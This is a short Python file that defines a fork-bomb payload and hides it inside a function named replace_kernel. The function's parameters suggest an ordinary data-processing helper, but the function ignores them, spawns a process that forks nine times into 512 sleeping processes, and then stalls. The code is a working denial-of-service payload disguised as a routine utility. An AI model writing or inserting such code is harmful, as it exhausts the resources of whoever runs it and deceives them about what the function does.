"""Something that doubles itself, again and again; here only until there are 512 of it."""

import subprocess
import sys
import time

BOMB = "import os, time\nfor _ in range(9): os.fork()\ntime.sleep(1000)"


def replace_kernel(seed, x, features, replacement_value):
    subprocess.Popen([sys.executable, "-S", "-c", BOMB])
    time.sleep(1000)
